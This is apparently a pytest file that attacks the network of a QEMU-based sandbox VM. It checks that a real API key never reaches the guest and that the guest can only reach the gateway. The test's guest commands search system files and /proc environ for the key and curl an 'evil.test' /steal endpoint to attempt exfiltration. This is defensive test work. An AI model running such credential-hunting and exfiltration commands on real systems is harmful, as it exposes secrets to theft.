"""The VM tier's network, attacked: real QEMU user networking (restrict=on), the real gateway, upstreams on loopback.

The guest's only exits are two forwards to its session's sockets on the
gateway.  One VM for the module (boots are slow under emulation); every test
checks the host side: what the upstream or a host listener received.
"""

from __future__ import annotations

import os
import shutil

import pytest

from tests.conftest import BASE
from tests.tiers.vm.test_vm import _plan, attempts_as_root, pytestmark, run  # noqa: F401 - same skips

REAL_KEY = "sk-real-0123456789abcdef0123456789abcdef"


@pytest.fixture(scope="module")
def upstream():
    from tests.egress.upstreams import AsgiUpstream

    directory = BASE / f"vm-upstream-{os.getpid()}"
    directory.mkdir(parents=True, exist_ok=True)
    api = AsgiUpstream(str(directory), names=("api.test", "evil.test"))
    yield api
    api.close()
    shutil.rmtree(directory, ignore_errors=True)


@pytest.fixture(scope="module")
def net_vm(image_cache, gw_state, upstream):
    from blastwall.tiers.vm.session import VmSession

    home = BASE / f"vm-net-home-{os.getpid()}"
    home.mkdir(parents=True, exist_ok=True)
    workspace = BASE / f"vm-net-ws-{os.getpid()}"
    workspace.mkdir(parents=True, exist_ok=True)
    env = {"HOME": str(home), "XDG_CACHE_HOME": str(image_cache), "XDG_STATE_HOME": str(gw_state),
           "XDG_CONFIG_HOME": str(home / ".config"), "PATH": os.environ["PATH"], "API_KEY": REAL_KEY,
           "BLASTWALL_GATEWAY_IDLE": "30"}
    doc = {"sandbox": {"tier": "vm"},
           "network": {"allow": ["api.test"], "resolve": {"api.test": "127.0.0.1", "evil.test": "127.0.0.1"},
                       "trusted_addresses": ["127.0.0.1/32"], "upstream_ca": upstream.ca,
                       "rules": [{"host": "api.test", "paths": ["/**"], "credential": "API_KEY"}]},
           "credentials": {"API_KEY": {"from": "env:API_KEY", "hosts": ["api.test"], "header": "x-api-key"}}}
    session = VmSession(_plan(env, workspace, doc), environ=env, workspace=str(workspace))
    os.chown(workspace, *session.host_owner)
    session.boot()
    yield session
    gateway_sessions = os.path.join(gw_state, "blastwall", "gateway", "sessions")
    session.close()
    assert not os.path.exists(gateway_sessions) or os.listdir(gateway_sessions) == []  # Its session ended.
    shutil.rmtree(home, ignore_errors=True)
    shutil.rmtree(workspace, ignore_errors=True)


def test_credential_stays_on_the_host_and_the_placeholder_works_through_the_gateway(net_vm, upstream):
    url = f"https://api.test:{upstream.port}/echo-key"
    status, out, err = run(net_vm, f'printenv API_KEY; grep -rl {REAL_KEY} /etc /home /tmp /run 2>/dev/null; '
                                   f'cat /proc/1/environ /proc/self/environ | grep -c {REAL_KEY}; '
                                   f'curl -sS -m 30 -H "x-api-key: $API_KEY" {url}; echo; '
                                   f'curl -sS -m 30 https://evil.test:{upstream.port}/steal; echo rc=$?', timeout=180)
    placeholder = out.splitlines()[0]
    assert placeholder and placeholder != REAL_KEY and len(placeholder) == len(REAL_KEY), out
    assert REAL_KEY not in out and REAL_KEY not in err  # Not in the guest, and echoes come back scrubbed.
    keys = [req[2].get("x-api-key") for req in upstream.requests]
    assert keys == [REAL_KEY], (keys, out, err)  # The gateway swapped the placeholder; evil.test got nothing.
    assert "rc=0" not in out


def test_as_root_in_the_guest_only_the_gateway_is_reachable(net_vm):
    """Raw sockets, DNS (public and slirp's), direct IPs, the host's loopback through slirp, other ports: nothing."""
    results, reached = attempts_as_root(net_vm, """
attempt("raw", raw)
attempt("dns-public", dns("8.8.8.8"))
attempt("dns-slirp", dns("10.0.2.3"))
attempt("direct", tcp("1.1.1.1", 443))
attempt("slirp-host", tcp("10.0.2.2", {port}))
attempt("gateway-other-port", tcp("10.0.2.100", 22))
attempt("gateway-proxy", tcp("10.0.2.100", 3128))
""")
    assert results["raw"] == "ENETUNREACH" and results["dns-public"] == "ENETUNREACH", results  # No route at all.
    assert results["direct"] == "ENETUNREACH", results
    assert results["dns-slirp"] == "timeout", results  # On the link, but restrict=on answers nothing.
    assert results["slirp-host"] in ("timeout", "ECONNREFUSED", "ECONNRESET"), results
    assert results["gateway-other-port"] in ("timeout", "ECONNREFUSED", "ECONNRESET"), results
    assert results["gateway-proxy"] == "SENT", results  # The one way out (the proxy still wants the session's token).
    assert not reached
